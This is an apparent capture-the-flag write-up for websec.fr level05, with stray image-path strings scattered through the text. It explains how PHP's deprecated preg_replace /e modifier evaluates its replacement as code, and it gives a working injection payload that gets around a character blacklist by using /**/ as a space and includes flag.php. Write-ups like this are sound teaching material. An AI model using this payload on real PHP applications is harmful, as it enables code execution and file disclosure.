websec.fr level05

Starting from the source, we see that every word that meets a valid word regex is passed through to a correct function:

$q = substr ($_REQUEST['q'], 0, 256);  # Our spellchecker is a bit slow, do not DoS it please.
$blacklist = implode (["'", '"', '(', ')', ' ', '`']);

$corrected = preg_replace ("/([^$blacklist]{2,})/ie", 'correct ("\\1")', $q);

The final regex after array implosion is /([^'"() ]/ie (there's a grave accent in there but Ghost refuses to let me escape it), so we can't use any of those characters in our final payload.What's important to note is the use of preg_replace with the e modifier. Fromthe PHP manual:

Warning: This feature was DEPRECATED in PHP 5.5.0, and REMOVED as of PHP 7.0.0.

If this deprecated modifier is set, preg_replace() does normal substitution of backreferences in the replacement string, evaluates it as PHP code, and uses the result for replacing the search string. Single quotes, double quotes, backslashes () and NULLchars will be escaped by backslashes in substituted backreferences.Hence, we have a vector for code execution!

# We use /**/ to act as an space toseparate the require statement
# A literal newlinewill also work here too
${require/**/$_GET['require_file']} $flag # $_GET['require_file'] => flag.php
Show Comments

Get the latest posts delivered right to your inbox.